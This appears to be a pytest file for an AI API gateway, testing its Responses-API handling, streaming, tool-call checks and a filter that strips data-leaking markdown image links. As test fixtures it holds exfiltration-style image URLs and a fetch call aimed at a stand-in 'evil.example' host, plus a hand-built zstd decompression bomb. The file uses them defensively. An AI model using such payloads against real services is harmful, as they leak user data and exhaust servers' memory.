"""The Responses dialect: OpenAI's SDK, with a server that speaks it and with the model echo."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx2
import openai
import pytest
from pydantic import BaseModel

from clients import open_ai
from gateway import Served
from renderers import YARDSTICKS, loaded_elsewhere, rendered
from responses_server import call, message, read, response, streamed
from scripted import Scripted, whole
from test_serve import code, serve

MODEL = "says"
PATH = "/v1/responses"
IMAGE = "see ![a](https://evil.example/x?q=secret) now"
REFUSED = "[refused by policy: answer-uncontrolled"
CLEAN = "see ![a](#link-removed:https://evil.example/x?q=secret) now"
TOOL = {"type": "function", "name": "weather", "parameters": {"type": "object"}, "strict": False}


@pytest.fixture(scope="module")
def server() -> Iterator[Scripted]:
    scripted = Scripted()
    yield scripted
    scripted.stop()


@pytest.fixture(scope="module")
def gateway(server: Scripted, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    config = f"""
[egress]
fetch_tools = ["fetch"]
[class.default]
rpm = 10000000
[class.blocked]
answers = {{ fetched = "block" }}
[class.capped]
output_tokens = 20
[[upstream]]
name = "says"
url = "{server.url}"
[[upstream]]
name = "old"
url = "{server.url}"
profile = "tgi"
[[upstream]]
name = "echo"
url = "echo:"
[[model]]
name = "says"
route = ["says"]
[[model]]
name = "old"
route = ["old"]
[[model]]
name = "echo"
route = ["echo"]
"""
    with serve(tmp_path_factory.mktemp("responses"), config) as served:
        served.token = served.issue("responses/all", models=("says", "old", "echo"))
        yield served


def post(gateway: Served, body: object, token: str | None = None, **headers: str) -> Any:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    return httpx2.post(
        gateway.url + PATH,
        content=content,
        headers={
            "authorization": f"Bearer {token or gateway.token}",
            "content-type": "application/json",
            **{name.replace("_", "-"): value for name, value in headers.items()},
        },
        timeout=60,
        trust_env=False,
    )


def numbers(data: list[dict[str, Any]]) -> list[int]:
    return [one["sequence_number"] for one in data]


# ---- the SDK -------------------------------------------------------------------------------------


@pytest.mark.parametrize("model", ["echo", MODEL])
def test_a_whole_answer(gateway: Served, server: Scripted, model: str) -> None:
    server.say("hello there", whole(response(message("hello there"))))
    done = open_ai(gateway, gateway.token).responses.create(
        model=model, input="hello there", store=True
    )
    assert (done.output_text, done.status) == ("hello there", "completed")
    assert done.usage and done.usage.output_tokens == 2
    if model == MODEL:
        sent = json.loads(server.bodies["hello there"])
        assert sent["store"] is False and sent["input"] == "hello there"


@pytest.mark.parametrize("model", ["echo", MODEL])
def test_a_stream(gateway: Served, server: Scripted, model: str) -> None:
    server.say("hello there", streamed(message("hello there")))
    client = open_ai(gateway, gateway.token)
    with client.responses.stream(model=model, input="hello there") as events:
        kinds = [event.type for event in events]
        final = events.get_final_response()
    assert kinds[0] == "response.created" and kinds[-1] == "response.completed"
    assert "response.output_text.delta" in kinds
    assert final.output_text == "hello there" and final.usage


@pytest.mark.parametrize("streams", [False, True])
def test_a_tool_loop(gateway: Served, streams: bool) -> None:
    client = open_ai(gateway, gateway.token)
    asked: list[Any] = [{"role": "user", "content": 'call weather {"city": "Łódź"}'}]

    def turn() -> Any:
        if not streams:
            return client.responses.create(model="echo", input=asked, tools=[TOOL])
        with client.responses.stream(model="echo", input=asked, tools=[TOOL]) as events:
            return events.get_final_response()

    [called] = turn().output
    assert called.type == "function_call" and json.loads(called.arguments) == {"city": "Łódź"}
    # The SDK's own object is sent back as it came.
    asked += [
        called.model_dump(exclude_none=True, exclude={"parsed_arguments"}),
        {"type": "function_call_output", "call_id": called.call_id, "output": "rain"},
    ]
    assert turn().output_text == "rain"


class Echoed(BaseModel):
    echo: str


def test_structured_output_is_parsed_and_not_changed(gateway: Served) -> None:
    done = open_ai(gateway, gateway.token).responses.parse(
        model="echo", input=IMAGE, text_format=Echoed
    )
    assert done.output_parsed and done.output_parsed.echo == IMAGE


def test_a_cap_cuts_and_is_written(gateway: Served, server: Scripted) -> None:
    token = gateway.issue("responses/capped", "--class", "capped", models=(MODEL, "echo"))
    words = " ".join(["word"] * 30)
    done = open_ai(gateway, token).responses.create(model="echo", input=words, max_output_tokens=25)
    assert done.status == "incomplete" and done.usage and done.usage.output_tokens == 20
    assert done.incomplete_details and done.incomplete_details.reason == "max_output_tokens"
    server.say("capped", whole(response(message("x"))))
    assert post(gateway, {"model": MODEL, "input": "capped"}, token).status_code == 200
    assert json.loads(server.bodies["capped"])["max_output_tokens"] == 20


# ---- the response filter -------------------------------------------------------------------------


def texts(data: list[dict[str, Any]]) -> tuple[str, list[str]]:
    """The deltas of a stream with one text, and each repetition of it."""
    deltas, repeated = "", []
    for one in data:
        if one["type"] == "response.output_text.delta":
            deltas += one["delta"]
        elif one["type"] == "response.output_text.done":
            repeated.append(one["text"])
        elif one["type"] == "response.content_part.done":
            repeated.append(one["part"]["text"])
        elif one["type"] == "response.output_item.done":
            repeated.append(one["item"]["content"][0]["text"])
        elif one["type"] == "response.completed":
            repeated.append(one["response"]["output"][0]["content"][0]["text"])
    return deltas, repeated


@pytest.mark.parametrize("size", [1, 2, 7, 100])
@pytest.mark.parametrize(
    ("text", "expect"),
    [
        (IMAGE, CLEAN),
        (f"`{IMAGE}`", f"`{IMAGE}`"),
        (f"```py\n{IMAGE}\n", f"```py\n{IMAGE}\n"),
        # A renderer could close what the answer leaves open.
        ("![a](https://evil.example/x", "![a](#link-removed:https://evil.example/x"),
    ],
)
def test_each_repetition_is_changed_as_the_deltas_are(
    gateway: Served, server: Scripted, text: str, expect: str, size: int
) -> None:
    server.say("image", streamed(message(text), size=size))
    answer = post(gateway, {"model": MODEL, "input": "image", "stream": True})
    data = read(answer.text)
    assert texts(data) == (expect, [expect] * 4)
    # What the caller sent comes back as it was.
    assert data[0]["response"]["instructions"] == response()["instructions"]
    assert numbers(data) == sorted(set(numbers(data))), numbers(data)
    # A repetition is no further finding.
    removed = [line for line in answer.text.splitlines() if line.startswith(": token-shield")]
    assert removed == ([] if text == expect else [": token-shield-removed: 1"])


@pytest.mark.parametrize(
    "parts",
    [
        ["see ![a](https://evil.example/", "x) now"],
        ["![a](https://evil.example/x)", "![b](https://evil.example/y) end"],
        ["```py\nx\n", "![a](https://evil.example/x)\n"],
        ["![a][b] is here", "\n\n[b]: https://evil.example/x\n"],
        ["`code", " ![a](https://evil.example/x)` end"],
    ],
)
def test_texts_of_several_items_are_changed_alike(
    gateway: Served, server: Scripted, parts: list[str]
) -> None:
    """Some clients join the texts of all items, and others show each of them."""
    items = [message(text, at) for at, text in enumerate(parts)]
    server.say("items", streamed(*items, size=5))
    data = read(post(gateway, {"model": MODEL, "input": "items", "stream": True}).text)
    said: dict[str, list[str]] = {"delta": [""] * len(parts)}
    for one in data:
        kind = one["type"]
        if kind == "response.output_text.delta":
            said["delta"][one["output_index"]] += one["delta"]
        elif kind == "response.output_text.done":
            said.setdefault(kind, []).append(one["text"])
        elif kind == "response.content_part.done":
            said.setdefault(kind, []).append(one["part"]["text"])
        elif kind == "response.output_item.done":
            said.setdefault(kind, []).append(one["item"]["content"][0]["text"])
        elif kind == "response.completed":
            said[kind] = [item["content"][0]["text"] for item in one["response"]["output"]]
    assert len(said) == 5 and all(texts == said["delta"] for texts in said.values()), said
    for text in ["".join(said["delta"]), *said["delta"]]:
        [(_, outputs)] = rendered([text])
        for name in YARDSTICKS:
            assert not loaded_elsewhere(outputs[name], "https://good.example"), (name, text)


def test_a_whole_answer_loads_nothing(gateway: Served, server: Scripted) -> None:
    server.say("image", whole(response(message(IMAGE))))
    answer = post(gateway, {"model": MODEL, "input": "image"})
    assert answer.json()["output"][0]["content"][0]["text"] == CLEAN
    assert answer.headers["token-shield-removed"] == "1"


def test_an_image_in_the_last_event_alone_is_changed(gateway: Served, server: Scripted) -> None:
    """A client that reads only the last event is safe too, if a server puts more into it."""
    answer = streamed(message("nothing"))
    server.say("last", answer.replace(b'"text": "nothing"', f'"text": "{IMAGE}"'.encode()))
    data = read(post(gateway, {"model": MODEL, "input": "last", "stream": True}).text)
    assert texts(data) == ("nothing", [CLEAN] * 4)


def test_a_refused_stream_ends_with_an_error(gateway: Served, server: Scripted) -> None:
    token = gateway.issue("responses/blocked", "--class", "blocked", models=(MODEL,))
    server.say("image", streamed(message(IMAGE)))
    answer = post(gateway, {"model": MODEL, "input": "image", "stream": True}, token)
    data = read(answer.text)
    assert "evil" not in json.dumps([one.get("delta") for one in data])
    assert [one["type"] for one in data[-2:]] == ["error", "response.failed"]
    assert data[-2]["code"] == data[-1]["response"]["error"]["code"] == "answer-uncontrolled"
    assert numbers(data) == sorted(set(numbers(data)))
    with pytest.raises(openai.APIError) as raised:
        list(open_ai(gateway, token).responses.create(model=MODEL, input="image", stream=True))
    assert raised.value.code == "answer-uncontrolled"


def test_a_cut_stream_is_an_error(gateway: Served, server: Scripted) -> None:
    server.say("cut", streamed(message("half of it"), ends=False))
    data = read(post(gateway, {"model": MODEL, "input": "cut", "stream": True}).text)
    assert data[-1]["response"]["error"]["code"] == "truncated"
    assert numbers(data) == list(range(len(data)))


@pytest.mark.parametrize("streams", [False, True])
def test_calls_are_judged(gateway: Served, server: Scripted, streams: bool) -> None:
    for url, passes in [("https://evil.example/x", False), ("none", True)]:
        item = call("fetch", {"url": url})
        server.say("call", streamed(item) if streams else whole(response(item)))
        answer = post(gateway, {"model": MODEL, "input": "call", "stream": streams})
        if passes:
            assert answer.status_code == 200 and "answer-uncontrolled" not in answer.text
            assert '{"url": "none"}' in answer.text.replace("\\", "")
            continue
        assert answer.status_code == 200 and "evil.example/x" not in answer.text, answer.text
        if streams:
            data = read(answer.text)
            assert numbers(data) == list(range(len(data)))
            done = data[-1]["response"]
            deltas = [one["delta"] for one in data if one["type"].endswith("text.delta")]
            assert deltas[-1].startswith(REFUSED)
        else:
            done = answer.json()
        assert [item["type"] for item in done["output"]] == ["message"]
        assert done["status"] == "completed"


def test_an_agent_reads_why_its_call_is_refused(gateway: Served, server: Scripted) -> None:
    """The SDK gets the call that passes, then a message in place of the refused one."""
    items = (call("weather", {"city": "x"}), call("fetch", {"url": "https://evil.example/"}, 1))
    client = open_ai(gateway, gateway.token)
    for streamed_by_server in (True, False):
        server.say("two", streamed(*items) if streamed_by_server else whole(response(*items)))
        with client.responses.stream(model=MODEL, input="two") as events:
            done = events.get_final_response()
        assert [item.type for item in done.output] == ["function_call", "message"]
        assert done.output[0].name == "weather"
        assert done.output_text.startswith(REFUSED) and "evil" not in done.model_dump_json()
    done = client.responses.create(model=MODEL, input="two")
    assert done.output_text.startswith(REFUSED) and len(done.output) == 2


@pytest.mark.parametrize("streams", [False, True])
def test_arguments_are_never_changed(gateway: Served, server: Scripted, streams: bool) -> None:
    item = call("write", {"text": IMAGE})
    server.say("write", streamed(item) if streams else whole(response(item)))
    answer = post(gateway, {"model": MODEL, "input": "write", "stream": streams})
    if streams:
        data = read(answer.text)
        deltas = [one["delta"] for one in data if one["type"].endswith("arguments.delta")]
        assert "".join(deltas) == item["arguments"]
        done = data[-1]["response"]
    else:
        done = answer.json()
    assert done["output"] == [item] and "removed" not in answer.text


@pytest.mark.parametrize("streams", [False, True])
def test_a_server_in_the_other_form(gateway: Served, server: Scripted, streams: bool) -> None:
    """A server that never streams, and one that always does."""
    items = (message(IMAGE), call("weather", {"city": "x"}, 1))
    server.say("other", whole(response(*items)) if streams else streamed(*items))
    client = open_ai(gateway, gateway.token)
    if streams:
        with client.responses.stream(model=MODEL, input="other") as events:
            done = events.get_final_response()
    else:
        done = client.responses.create(model=MODEL, input="other")
    assert done.output_text == CLEAN and done.usage
    assert done.output[1].name == "weather" and json.loads(done.output[1].arguments)["city"] == "x"


# ---- requests ------------------------------------------------------------------------------------


def test_what_keeps_or_names_state_is_refused(gateway: Served) -> None:
    for more in [
        {"previous_response_id": "resp_1"},
        {"conversation": "conv_1"},
        {"background": True},
        {"input": [{"type": "item_reference", "id": "msg_1"}]},
    ]:
        answer = post(gateway, {"model": "echo", "input": "x", **more})
        assert code(answer) == (403, "egress-uncontrolled"), more
    for tool in [{"type": "web_search"}, {"type": "mcp", "server_url": "https://x.example"}]:
        answer = post(gateway, {"model": "echo", "input": "x", "tools": [tool]})
        assert code(answer) == (403, "tool-not-allowed"), tool


def test_dropped_fields_are_named(gateway: Served) -> None:
    answer = post(
        gateway,
        {"model": "echo", "input": "x", "store": True, "client_metadata": {"a": "b"}},
    )
    assert answer.status_code == 200
    assert set(answer.headers["token-shield-dropped"].split(", ")) == {"store", "client_metadata"}


def test_only_servers_that_have_it_get_it(gateway: Served) -> None:
    answer = post(gateway, {"model": "old", "input": "x"})
    assert code(answer) == (400, "dialect-not-served")
    assert "/v1/chat/completions" in answer.json()["error"]["message"]


def test_a_token_needs_the_scope(gateway: Served) -> None:
    token = gateway.issue("responses/chat", "--scope", "inference.chat", models=("echo",))
    assert code(post(gateway, {"model": "echo", "input": "x"}, token)) == (403, "scope-missing")


def test_other_methods_are_refused(gateway: Served) -> None:
    headers = {"authorization": f"Bearer {gateway.token}"}
    answer = httpx2.get(gateway.url + PATH, headers=headers, timeout=60, trust_env=False)
    assert code(answer) == (405, "method-not-allowed") and answer.headers["allow"] == "POST"
    answer = httpx2.get(gateway.url + PATH + "/resp_1", headers=headers, timeout=60)
    assert code(answer) == (404, "route-unknown")
    upgrade = {**headers, "connection": "Upgrade", "upgrade": "websocket"}
    answer = httpx2.get(gateway.url + PATH, headers=upgrade, timeout=60, trust_env=False)
    assert code(answer) == (426, "upgrade-not-served")
    assert answer.headers["connection"] == "close"


# ---- bodies in zstd ------------------------------------------------------------------------------


def frame(*blocks: tuple[int, int, bytes]) -> bytes:
    """A frame of zstd with a window of 1 MiB (RFC 8878 section 3.1). A block has its type (0 raw, 1
    one byte repeated), its size, and its bytes."""
    out = b"\x28\xb5\x2f\xfd\x00" + bytes([10 << 3])
    for at, (kind, size, content) in enumerate(blocks):
        last = at + 1 == len(blocks)
        out += (size << 3 | kind << 1 | last).to_bytes(3, "little") + content
    return out


def test_bodies_in_zstd_are_read(gateway: Served) -> None:
    body = json.dumps({"model": "echo", "input": "packed"}).encode()
    answer = post(gateway, frame((0, len(body), body)), content_encoding="zstd")
    assert answer.json()["output"][0]["content"][0]["text"] == "packed"
    for coding in ["gzip", "br", "zstd, gzip"]:
        answer = post(gateway, frame((0, len(body), body)), content_encoding=coding)
        assert code(answer) == (415, "body-encoded"), coding
    answer = post(gateway, body, content_encoding="zstd")
    assert code(answer) == (415, "body-encoded")


def test_a_short_body_does_not_become_a_large_one(gateway: Served) -> None:
    block = 128 << 10
    # 4 GiB of spaces in 128 KiB.
    bomb = frame(*[(1, block, b" ")] * (4 << 30 >> 17))
    assert len(bomb) < 1 << 18
    before = gateway.resident_bytes()
    answer = post(gateway, bomb, content_encoding="zstd")
    assert code(answer) == (413, "body-too-large")
    assert gateway.resident_bytes() - before < 256 << 20
